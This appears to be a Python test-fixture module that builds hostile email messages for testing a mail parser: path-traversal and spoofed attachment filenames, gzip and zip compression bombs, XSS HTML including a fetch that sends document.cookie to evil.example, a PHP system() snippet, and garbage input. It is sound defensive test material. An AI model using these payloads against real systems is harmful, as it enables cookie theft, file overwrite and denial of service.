"""Hostile content: compression bombs, attachment names, scripted HTML, empty and garbage input."""

from __future__ import annotations

import random
from collections.abc import Iterator

from tests.hostile.build import (
    REPORT,
    Case,
    attachment,
    b64,
    gzip_bomb,
    headers,
    mail,
    multipart,
    text_part,
    zip_bomb,
)

# (case name, the raw filename parameter as it goes on the wire)
HOSTILE_NAMES: list[tuple[str, bytes]] = [
    ("dotdot_unix", b'filename="../../../etc/passwd"'),
    ("dotdot_windows", b'filename="..\\..\\..\\boot.ini"'),
    ("absolute_unix", b'filename="/etc/shadow"'),
    ("absolute_windows", b'filename="C:\\Windows\\System32\\evil.dll"'),
    ("unc_path", b'filename="\\\\server\\share\\x.exe"'),
    ("dot", b'filename="."'),
    ("dotdot", b'filename=".."'),
    ("control_chars", b'filename="a\x07b\x1bc\x7fd.txt"'),
    ("newline_in_name", b'filename="calls\r\n.csv"'),
    ("nul_in_name", b'filename="evil.pdf\x00.exe"'),
    ("name_10k", b'filename="' + b"n" * 10_000 + b'.csv"'),
    ("rfc2231_dotdot", b"filename*=utf-8''%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("rfc2231_nul", b"filename*=utf-8''evil%00.exe"),
    ("rfc2231_bad_escape", b"filename*=utf-8''%ZZ%zz%"),
    ("rfc2231_broken_continuation", b"filename*0*=utf-8''part; filename*5=never"),
    ("rfc2047_dotdot", b'filename="=?utf-8?B?Li4vLi4vZXRjL3Bhc3N3ZA==?="'),
    ("rtl_override", 'filename="invoice\u202egpj.exe"'.encode()),
    ("only_spaces", b'filename="     "'),
    ("trailing_dots_spaces", b'filename="calls.csv. . ."'),
    ("empty_name", b'filename=""'),
    ("tilde_home", b'filename="~/.ssh/authorized_keys"'),
    ("dotdot_mixed", b'filename="logs/../../x/./../calls.csv"'),
]


def attachment_names() -> Iterator[Case]:
    c = "attachment_name"
    for name, param in HOSTILE_NAMES:
        part = attachment(b"date,from,to\r\n", b"", b"text/csv", param=param)
        yield c, name, multipart(f"a-{name}", [text_part(), part])
    ctype_name = (
        b'Content-Type: application/octet-stream; name="../../ctype/name.bin"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"data")
    )
    yield c, "content_type_name_dotdot", multipart("a-ctype-name", [text_part(), ctype_name])
    cid = (
        b"Content-Type: image/png\r\nContent-ID: <../../../cid/evil.png>\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"\x89PNG\r\n\x1a\n")
    )
    yield c, "content_id_dotdot", multipart("a-cid", [text_part(), cid], subtype=b"related")


def bombs() -> Iterator[Case]:
    c = "compression_bomb"
    yield (
        c,
        "gzip_2gib",
        multipart(
            "x-gzip-bomb",
            [text_part(), attachment(gzip_bomb(), b"calls.log.gz", b"application/gzip")],
        ),
    )
    yield (
        c,
        "zip_2gib",
        multipart(
            "x-zip-bomb", [text_part(), attachment(zip_bomb(), b"logs.zip", b"application/zip")]
        ),
    )
    yield (
        c,
        "gzip_as_transfer_encoding",
        mail(
            "x-gzip-cte",
            b64(gzip_bomb()[:4096]),
            extra=[
                b"MIME-Version: 1.0",
                b"Content-Type: text/plain",
                b"Content-Encoding: gzip",
                b"Content-Transfer-Encoding: base64",
            ],
        ),
    )


def html() -> Iterator[Case]:
    c = "html"
    script = (
        b"<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        b"<style>body{background:url(javascript:alert(1))}</style></head><body>"
        b'<img src=x onerror=alert(1)><a href="javascript:alert(2)">click</a>'
        b"<p>Calls drop after 30 seconds.</p><iframe src=https://evil.example></iframe>"
        b"</body></html>"
    )
    html_part = b"Content-Type: text/html; charset=utf-8\r\n\r\n"
    yield c, "script_only_html", multipart("t-script", [html_part + script], subtype=b"alternative")
    yield (
        c,
        "unclosed_comment",
        multipart(
            "t-comment",
            [html_part + b"<p>before<!-- never closed " + REPORT],
            subtype=b"alternative",
        ),
    )
    yield (
        c,
        "nested_10k_tags",
        multipart("t-nested", [html_part + b"<div>" * 10_000 + REPORT + b"</div>" * 10_000]),
    )
    yield (
        c,
        "unclosed_script",
        multipart("t-unclosed-script", [html_part + b"<script>" + REPORT * 100]),
    )
    yield c, "entity_flood", multipart("t-entities", [html_part + b"&#x1F4A9;&#0;&#xD800;" * 5000])
    yield (
        c,
        "cdata_and_pi",
        multipart(
            "t-cdata",
            [html_part + b"<![CDATA[x]]><?php system('id'); ?><!DOCTYPE x [<!ENTITY a 'b'>]>"],
        ),
    )
    yield (
        c,
        "html_attachment_script",
        multipart("t-attach", [text_part(), attachment(script, b"invoice.html", b"text/html")]),
    )


def garbage() -> Iterator[Case]:
    c = "garbage"
    rng = random.Random("hostile:garbage")
    yield c, "empty", b""
    yield c, "crlf_only", b"\r\n"
    yield c, "whitespace_only", b" \t\r\n" * 100
    yield c, "headers_only_no_blank", headers("g-headers-only").rstrip(b"\r\n")
    yield c, "headers_only_blank", headers("g-headers-blank")
    yield c, "body_without_headers", b"\r\n" + REPORT
    yield c, "random_64k", rng.randbytes(65_536)
    yield c, "random_with_header_prefix", headers("g-prefix") + rng.randbytes(65_536)
    yield c, "nul_flood", b"\x00" * 100_000
    yield c, "png_file", b"\x89PNG\r\n\x1a\n" + rng.randbytes(4096)
    yield (
        c,
        "mbox_from_line",
        b"From dana@acmedental.example Thu Nov 26 10:00:00 2026\r\n" + mail("g-mbox"),
    )
    yield (
        c,
        "utf16_bom_message",
        "\ufeff".encode("utf-16") + mail("g-utf16").decode().encode("utf-16-le"),
    )
    yield c, "single_line_1mb", b"X" * 2**20
    yield c, "colon_storm", b":" * 10_000 + b"\r\n\r\nbody"


def cases() -> Iterator[Case]:
    """Every content case."""
    yield from attachment_names()
    yield from bombs()
    yield from html()
    yield from garbage()
